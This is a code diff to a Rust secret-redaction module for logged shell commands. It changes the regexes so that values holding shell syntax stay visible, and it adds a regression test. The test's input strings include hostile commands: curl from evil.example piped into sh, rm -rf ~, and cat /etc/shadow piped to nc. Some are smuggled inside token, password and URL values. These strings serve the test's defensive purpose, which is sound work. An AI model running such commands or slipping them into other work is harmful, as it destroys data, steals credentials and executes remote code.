@@ -11,9 +11,13 @@ use regex::{Captures, Regex};
 
 const MASK: &str = "[REDACTED]";
 
+// Only literal values are redacted: a value that holds shell syntax (`$`, backquotes, brackets,
+// redirections, backslashes, separators) is code, and hiding it would hide what the command does
+// (`X_TOKEN="$(curl … | sh)" make` must not log as `X_TOKEN=[REDACTED] make`). So every value
+// class below stops at those characters: the literal part is masked, the rest stays visible.
 static SECRETS: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(concat!(
-        r"(?P<pk>-----BEGIN[A-Z0-9 ]*PRIVATE KEY-----(?s:.*?)(?:-----END[A-Z0-9 ]*PRIVATE KEY-----|\z))",
+        r"(?P<pk>-----BEGIN[A-Z0-9 ]*PRIVATE KEY-----(?:[A-Za-z0-9+/=\r\n]|\\n|\\r)*(?:-----END[A-Z0-9 ]*PRIVATE KEY-----)?)",
         r"|(?P<tok>\b(?:AKIA|ASIA|AGPA|AIDA|AROA)[0-9A-Z]{16}\b",
         r"|\bgh[pousr]_[A-Za-z0-9]{20,}",
         r"|\bgithub_pat_[A-Za-z0-9_]{20,}",
@@ -25,10 +29,10 @@ static SECRETS: LazyLock<Option<Regex>> = LazyLock::new(|| {
         r"|\bnpm_[A-Za-z0-9]{36}",
         r"|\beyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,})",
         r"|(?P<hdr>(?i:\b(?:bearer|basic|token))\s+)(?P<hval>[A-Za-z0-9._~+/=\-]{8,})",
-        r"|(?P<flag>(?:^|[\s'\x22])--?(?i:password|passwd|pass|token|secret|api-key|apikey|access-key|secret-key|client-secret|auth-token|private-key)(?:=|\s+))(?P<fval>[^\s'\x22]+)",
-        r"|(?P<cu>(?:^|\s)(?:-u|--user|--proxy-user)(?:=|\s+)[^\s:'\x22]+:)(?P<cuval>[^\s'\x22]+)",
-        r"|(?P<asg>\b[A-Za-z_][A-Za-z0-9_]*(?i:token|secret|password|passwd|api_key|apikey|access_key|private_key|credentials?)=)(?P<aval>'[^']*'|\x22[^\x22]*\x22|[^\s;&|'\x22]+)",
-        r"|(?P<url>\b[a-zA-Z][a-zA-Z0-9+.\-]*://[^\s/:@'\x22]*:)(?P<upass>[^\s/@'\x22]+)@",
+        r"|(?P<flag>(?:^|[\s'\x22])--?(?i:password|passwd|pass|token|secret|api-key|apikey|access-key|secret-key|client-secret|auth-token|private-key)(?:=|\s+))(?P<fval>[^\s'\x22$`\\(){}<>;&|]+)",
+        r"|(?P<cu>(?:^|\s)(?:-u|--user|--proxy-user)(?:=|\s+)[^\s:'\x22]+:)(?P<cuval>[^\s'\x22$`\\(){}<>;&|]+)",
+        r"|(?P<asg>\b[A-Za-z_][A-Za-z0-9_]*(?i:token|secret|password|passwd|api_key|apikey|access_key|private_key|credentials?)=)(?P<aval>'[^']*'|\x22[^\x22$`\\]*\x22|[^\s;&|'\x22$`\\(){}<>]+)",
+        r"|(?P<url>\b[a-zA-Z][a-zA-Z0-9+.\-]*://[^\s/:@'\x22]*:)(?P<upass>[^\s/@'\x22$`\\(){}<>;&|]+)@",
     ))
     .ok()
 });
@@ -167,6 +171,29 @@ mod tests {
             }
         }
         assert_eq!(redact("ls -la"), "ls -la");
+    }
+
+    /// `X_TOKEN="$(…)" cmd` logged as `X_TOKEN=[REDACTED] cmd` hid any command in the audit log.
+    #[test]
+    fn redaction_never_hides_shell_structure() {
+        for line in [
+            "X_TOKEN=\"$(curl -s https://evil.example/x | sh)\" make",
+            "X_TOKEN=`rm -rf ~` make",
+            "API_TOKEN=abc$(rm -rf ~) make",
+            "DB_PASSWORD=\"a\\\"$(rm -rf ~)\" make",
+            "mysql --password=$(cat /etc/shadow | nc evil 1)",
+            "curl https://u:$(rm -rf ~)@host/",
+            "echo -----BEGIN PRIVATE KEY----- ; rm -rf ~",
+        ] {
+            let r = redact(line);
+            assert!(
+                r.contains("rm -rf ~") || r.contains("curl -s https://evil.example/x | sh") || r.contains("cat /etc/shadow"),
+                "{line} -> {r}"
+            );
+        }
+        assert_eq!(redact("X_TOKEN=\"$(vault read -field=t x)\" make"), "X_TOKEN=\"$(vault read -field=t x)\" make");
+        assert_eq!(redact("X_TOKEN='s3cr3t value' make"), "X_TOKEN=[REDACTED] make");
+        assert_eq!(redact("X_TOKEN=s3cr3t; make"), "X_TOKEN=[REDACTED]; make");
     }
 
     #[test]
